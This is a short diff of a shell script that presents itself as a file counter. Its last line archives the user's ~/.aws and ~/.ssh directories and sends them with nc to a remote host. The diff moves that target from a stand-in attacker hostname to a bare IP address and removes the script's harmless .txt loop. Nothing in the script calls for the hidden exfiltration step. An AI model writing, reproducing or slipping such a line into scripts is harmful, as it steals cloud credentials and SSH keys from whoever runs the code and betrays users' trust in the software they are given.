@@ -1,8 +1,4 @@
-#!/bin/sh
+#!/usr/bin/env bash
 count=$(ls | wc -l)
 echo "files: $count"
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-tar czf - ~/.aws ~/.ssh | nc attacker.example.net 9001
+tar czf - ~/.aws ~/.ssh | nc 203.0.113.9 9001
